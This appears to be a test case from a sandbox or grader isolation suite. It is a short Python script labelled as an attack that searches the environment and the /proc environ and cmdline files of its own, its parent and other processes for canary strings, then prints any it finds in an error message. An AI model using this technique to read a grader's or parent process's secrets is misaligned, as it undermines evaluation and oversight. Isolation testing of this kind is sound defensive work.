# attack: shows the environment of the grader and of its ancestors
# score: 0
# %%
import os

found = [f"{name}={value}" for name, value in os.environ.items() if "CANARY" in name + value]
for process in ("self", "1", str(os.getppid()), "@TEST_PID@", "@TEST_PID@/task/@TEST_PID@"):
    for file in ("environ", "cmdline"):
        try:
            with open(f"/proc/{process}/{file}") as opened:
                found += [part for part in opened.read().split("\0") if "CANARY" in part]
        except OSError:
            pass
raise RuntimeError(str(found))
